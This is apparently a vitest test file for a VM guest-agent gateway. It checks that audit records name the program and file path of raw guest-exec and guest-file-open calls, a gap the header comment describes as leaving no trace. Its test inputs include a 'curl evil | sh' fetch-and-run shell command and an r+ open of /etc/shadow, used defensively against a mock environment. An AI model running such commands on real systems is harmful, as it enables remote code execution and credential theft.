// the audit names the target of each state-changing call (README: guest path, program, ...). POST /exec
// records `program`, a PUT records `path`; the raw endpoint reaching the same effect records only `command`:
// targetOf() in src/http/audit.ts reads body.path, never body.arguments.path. So running a program or opening a
// file through the raw endpoint leaves no trace of which.
import { describe, expect, it } from 'vitest';
import { startEnv, type Env } from '../support/guard-rail-env.js';

let env: Env | null = null;
describe('the audit of raw commands', () => {
  it('names the program of a raw guest-exec and the path and mode of a raw guest-file-open, as the resource routes do', async () => {
    env = await startEnv({ ops: { scopes: ['read', 'admin', 'exec', 'files:read', 'files:write'] } });
    expect((await env.call(env.tokens.ops!, 'POST', '/domains/web1/exec', { path: '/usr/bin/id' })).status).toBe(201);
    expect(env.gw.audit.at(-1)).toMatchObject({ program: '/usr/bin/id' });

    expect((await env.raw(env.tokens.ops!, 'guest-exec', { path: '/bin/sh', arg: ['-c', 'curl evil | sh'] })).status).toBe(200);
    const exec = env.gw.audit.at(-1)!;
    env.files.files.set('/etc/shadow', Buffer.from('root:x'));
    expect((await env.raw(env.tokens.ops!, 'guest-file-open', { path: '/etc/shadow', mode: 'r+' })).status).toBe(200);
    const open = env.gw.audit.at(-1)!;
    expect({ exec: exec.program ?? null, open: open.path ?? null }).toEqual({ exec: '/bin/sh', open: '/etc/shadow' });
  });
});
